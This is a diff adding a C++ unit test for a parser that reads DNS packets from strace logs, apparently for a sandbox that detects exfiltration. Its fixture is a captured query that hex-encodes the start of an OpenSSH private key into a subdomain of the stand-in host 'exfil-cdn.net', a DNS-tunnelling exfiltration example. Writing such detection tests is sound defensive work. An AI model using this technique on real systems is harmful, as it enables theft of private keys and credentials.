@@ -94,6 +94,24 @@ TEST(ReadDnsPacket, UnreadableTcpAndCutPackets) {
   EXPECT_EQ(name, "example.com");
 }
 
+// A framed query whose ID starts with a byte below 0x80 reads, unframed, as a query of the
+// root; the framed reading is the one. Python's socket.sendall of a DNS-over-TCP exfiltration
+// query (captured under strace -yy -s 256 in the sandbox of testdata/harness/lib.sh).
+TEST(ReadDnsPacket, TcpQueryWhoseIdLooksLikeFlags) {
+  std::string name;
+  EXPECT_EQ(ReadDnsPacket("94    1796412412.482129 sendto(3<TCP:[127.0.0.1:44504->127.0.0.11:53]>, "
+                          "\"\\0`\\0224\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0<2d2d2d2d2d424547494e204f50454e5353482050"
+                          "524956415445204b4559\\0010\\1t\\texfil-cdn\\3net\\0\\0\\20\\0\\1\", 98, 0, NULL, 0) = 98 <0.000183>",
+                          &name),
+            DnsPacket::kQuery);
+  EXPECT_EQ(name, "2d2d2d2d2d424547494e204f50454e5353482050524956415445204b4559.0.t.exfil-cdn.net");
+  // The same query sent over UDP, without the length: read as it is.
+  EXPECT_EQ(ReadDnsPacket("sendto(3, \"\\0224\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\3abc\\3net\\0\\0\\20\\0\\1\", 25, 0, NULL, 0) = 25",
+                          &name),
+            DnsPacket::kQuery);
+  EXPECT_EQ(name, "abc.net");
+}
+
 
 // Real reads of resolv.conf: a Docker-generated one cut by -s 256 after its nameserver lines
 // (testdata/formats/strace/f_tt_T_y_s256_resolver_docker_listed.txt), one cut by -s 32 after
